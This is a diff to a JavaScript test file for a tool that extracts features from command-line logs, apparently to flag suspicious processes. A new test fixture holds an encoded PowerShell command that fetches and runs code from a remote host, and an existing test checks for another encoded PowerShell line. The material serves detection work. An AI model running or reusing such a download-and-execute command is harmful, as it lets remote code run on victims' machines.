@@ -202,7 +202,7 @@ describe('a table with features', () => {
 
   it('says which column is missing', () => {
     expect(() => commandLineTable(log.select(['Urls']))).toThrow('There is no column of command lines.')
-    expect(() => commandLineTable(log, { parent: 'Father' })).toThrow('There is no column `Father`.')
+    expect(() => commandLineTable(log, { parent: 'Father' })).toThrow('The table has no column `Father`')
     expect(commandLineTable(log.pick([])).table.rowCount).toBe(0)
   })
 
@@ -218,5 +218,17 @@ describe('a table with features', () => {
     expect(String(table.column('CommandLine')[0])).toContain('powershell  -enc LU5vbmlu')
     // Of the eighteen only the updater's report to its maker is no part of the demonstration.
     expect(table.column('CommandLine').filter((line) => String(line).includes('GoogleUpdate'))).toHaveLength(1)
+  })
+})
+
+describe('a table of command lines', () => {
+  it('does not take a row without a line for one that has it', () => {
+    const table = Table.fromRows(
+      [{ name: 'CommandLine', type: 'dynamic' }],
+      [[null], ['powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4AC4AYwBvAG0AKQA=']],
+    )
+    const { table: made } = commandLineTable(table)
+    expect(made.column('LineLength')).toEqual([0, 76])
+    expect(made.value(1, 'IndicatorCount')).toBeGreaterThan(0)
   })
 })
